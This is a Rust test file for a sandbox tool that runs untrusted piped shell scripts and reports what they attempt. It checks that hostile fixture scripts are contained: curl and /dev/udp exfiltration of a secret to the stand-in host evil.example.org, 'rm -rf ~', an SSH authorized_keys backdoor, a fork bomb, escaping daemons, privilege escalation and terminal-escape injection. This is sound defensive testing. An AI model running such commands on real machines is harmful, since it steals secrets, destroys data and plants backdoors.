//! Scripts that mean harm, whole: in the cage, listed, not kept.

use std::fs;
use std::io::Read;
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::time::Duration;

use super::{Bench, KEEP_ALL};

#[test]
fn nothing_goes_out_by_http_headers_names_or_datagrams() {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let udp = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let (tcp_port, udp_port) = (
        listener.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port(),
    );
    let text = format!(
        "secret=$(cat ~/notes)\n\
         curl -sSf -m 5 -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 1\n\
         curl -sSf -m 5 --noproxy '*' -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 2\n\
         curl -sSf -m 5 -H \"X-Secret: $secret\" https://$secret.evil.example.org/ || echo no 3\n\
         curl -sSf -m 5 -p -x http://127.0.0.1:3128 https://127.0.0.1:{tcp_port}/ || echo no 4\n\
         bash -c \"echo $secret > /dev/udp/127.0.0.1/{udp_port}\" || echo no 5\n\
         bash -c \"echo $secret > /dev/udp/8.8.8.8/53\" || echo no 6\n\
         getent hosts $secret.evil.example.org || echo no 7\n"
    );
    let bench = Bench::new(&text);
    fs::write(bench.machine.home().join("notes"), "topsecret\n").unwrap();
    let told = bench.run(&[]);
    told.exits(0);
    for number in 1..=7 {
        told.says(&format!("no {number}"));
    }
    // Who wanted to talk to whom is told.
    told.says("topsecret.evil.example.org").says("127.0.0.1");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "somebody connected");
    udp.set_read_timeout(Some(Duration::from_millis(50)))
        .unwrap();
    assert!(udp.recv(&mut [0; 100]).is_err(), "a datagram came");
}

#[test]
fn a_removed_home_is_a_list_and_no_loss() {
    let bench = Bench::new("rm -rf ~ ~/* ~/.[!.]* 2>/dev/null\necho done\n");
    let before = bench.home();
    let told = bench.run(&["--yes"]);
    told.says(".bashrc").says("old").says("removed");
    assert_eq!(told.code, Some(3), "{told}");
    assert_eq!(before.changes_to(&bench.home()), "");
}

#[test]
fn a_key_for_logging_in_is_set_apart_and_not_kept_beside_hidden_ones() {
    let bench = Bench::new(
        "mkdir -p ~/.ssh\necho evil >> ~/.ssh/authorized_keys\ncat ~/.ssh/id 2>/dev/null\n",
    );
    let ssh = bench.machine.home().join(".ssh");
    fs::create_dir(&ssh).unwrap();
    fs::write(ssh.join("id"), "private").unwrap();
    bench.machine.give_to_user(&ssh);
    let told = bench.run(&KEEP_ALL);
    told.says(".ssh/authorized_keys")
        .says("ssh")
        .does_not_say("private");
    assert!(!matches!(told.code, Some(0)), "{told}");
    assert!(!ssh.join("authorized_keys").exists());
    // Where there is none, it is still set apart.
    let bench = Bench::new("mkdir -p ~/.ssh\necho evil >> ~/.ssh/authorized_keys\n");
    bench
        .run(&[])
        .exits(3)
        .says(".ssh/authorized_keys")
        .says("ssh");
}

#[test]
fn a_fork_bomb_ends_with_the_run() {
    let bench = Bench::ordinary("bomb() { bomb | bomb & }\nbomb\nsleep 1\necho survived\n");
    let told = bench.run(&["--timeout", "20"]);
    assert!(matches!(told.code, Some(0 | 3 | 51)), "{told}");
    assert_eq!(bench.processes(), 0);
}

#[test]
fn a_daemon_does_not_outlive_the_run() {
    let bench = Bench::new(
        "(setsid nohup sh -c 'sleep 2; echo late > ~/late; sleep 600' >/dev/null 2>&1 &)\necho started\n",
    );
    bench.run(&KEEP_ALL).exits(0).says("started");
    assert_eq!(bench.processes(), 0);
    assert!(!bench.machine.home().join("late").exists());
}

#[test]
fn a_script_that_looks_whether_it_is_piped_is_what_was_shown() {
    let text = "if [ -p /dev/stdin ] || [ ! -t 0 ]; then echo nobody looks > ~/evil; else echo harmless; fi\n";
    let bench = Bench::new(text);
    // It does what it does with nobody at its input, and that is shown.
    bench.run(&[]).exits(3).says("evil");
    assert!(!bench.machine.home().join("evil").exists());
}

#[test]
fn output_without_end_is_read_and_not_shown_without_end() {
    let bench = Bench::new("head -c 200000000 /dev/zero | tr '\\0' x | fold -w 79\necho end\n");
    let mut child = bench
        .machine
        .command(["run", "./script"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut shown = Vec::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_end(&mut shown)
        .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert!(shown.len() < 4_000_000, "{} bytes", shown.len());
    let text = String::from_utf8_lossy(&shown);
    assert!(text.contains("not shown"), "nobody was told");
}

#[test]
fn who_asks_for_more_rights_is_told_about() {
    let bench =
        Bench::new("sudo apt-get install -y evil && echo got\nsu -c id\npkexec id\necho on\n");
    let told = bench.run(&[]);
    told.exits(0)
        .says("sudo apt-get install -y evil")
        .says("pkexec id")
        .says("as the script tells it")
        .says("| on")
        .does_not_say("| got");
}

#[test]
fn what_others_could_use_is_never_kept() {
    for (script, path) in [
        ("cp /bin/true ~/own; chmod u+s ~/own", "own"),
        ("mkfifo ~/pipe", "pipe"),
        (
            "mkdir -p ~/.config/x; chmod 777 ~/.config",
            "others could then write above unpipe's own",
        ),
        (
            "mkdir -p ~/.config/unpipe; echo '[defaults]' > ~/.config/unpipe/policy.toml",
            "policy.toml",
        ),
        (
            "mkdir -p ~/prefix/share/unpipe/apps; echo x > ~/prefix/share/unpipe/apps/x",
            "share/unpipe",
        ),
        ("mkdir -p ~/state/trust; echo x > ~/state/trust/x", "state"),
        ("touch \"$(printf 'a\\033[8mb')\"", "a\\u{1b}[8mb"),
    ] {
        let bench = Bench::new(&format!("cd ~\n{script}\n"));
        let before = bench.home();
        let told = bench.run(&KEEP_ALL);
        told.says(path);
        assert!(!matches!(told.code, Some(0)), "{told}");
        assert_eq!(before.changes_to(&bench.home()), "", "{script}");
    }
}

#[test]
fn a_name_or_a_line_cannot_drive_the_terminal() {
    let bench = Bench::new(
        "printf 'a\\033[2Jb\\033]0;t\\007\\n'\nprintf x > ~/\"$(printf 'n\\033[8m')\"\nprintf '\\033[8m' >> ~/.bashrc\n",
    );
    let told = bench.run(&[]);
    let is_raw = |c: char| c.is_control() && c != '\n';
    assert!(!told.stderr.chars().any(is_raw), "{told}");
    assert!(!told.stdout.chars().any(is_raw), "{told}");
}

#[test]
fn secrets_of_the_environment_stay_outside() {
    let bench = Bench::new("env\necho \"given $GIVEN\"\n");
    let mut command = bench
        .machine
        .command(["run", "./script", "--env", "GIVEN=this"]);
    let output = command.env("AWS_SECRET", "hunter2").output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("given this"), "{said}");
    assert!(!said.contains("hunter2"), "{said}");
}

#[test]
fn what_hides_behind_links_is_seen_for_what_it_is() {
    let bench = Bench::new(
        "echo evil >> ~/.bashrc\necho evil > ~/.local/bin/tool\ncat ~/dot/key\nprintf 'a\\0b' >> ~/.profile\n",
    );
    let home = bench.machine.home();
    for folder in ["dot", ".local/bin", ".ssh"] {
        fs::create_dir_all(home.join(folder)).unwrap();
    }
    fs::rename(home.join(".bashrc"), home.join("dot/bashrc")).unwrap();
    for (path, text) in [("dot/tool", "x"), ("dot/key", "private")] {
        fs::write(home.join(path), text).unwrap();
        fs::set_permissions(home.join(path), fs::Permissions::from_mode(0o755)).unwrap();
    }
    for (path, text) in [
        (".bashrc", "dot/bashrc"),
        (".local/bin/tool", "../../dot/tool"),
        (".ssh/id", "../dot/key"),
    ] {
        symlink(text, home.join(path)).unwrap();
    }
    let record = bench.machine.work("record");
    let path = format!("{}:/usr/bin:/bin", home.join(".local/bin").display());
    let output = bench
        .machine
        .command(["run", "./script", "--json", "--record"])
        .arg(&record)
        .env("PATH", path)
        .output()
        .unwrap();
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!told.contains("private"), "{told}");
    let json: serde_json::Value =
        serde_json::from_slice(&fs::read(record.join("run.json")).unwrap()).unwrap();
    let of = |path: &str| {
        let mut changes = json["changes"].as_array().unwrap().iter();
        changes.find(|one| one["path"] == path).unwrap().clone()
    };
    assert_eq!(of("dot/bashrc")["concern"], "startup", "{json:#}");
    assert_eq!(json["commands"][0]["path"], "dot/tool", "{json:#}");
    assert_eq!(json["commands"][0]["new"], false);
    assert_eq!(json["commands"][0]["stands"], "run-as");
    let diff = fs::read_to_string(record.join("changes.diff")).unwrap();
    assert!(
        diff.contains(".profile: difference not shown: no text"),
        "{diff}"
    );
    assert!(diff.contains("+evil"), "{diff}");
}
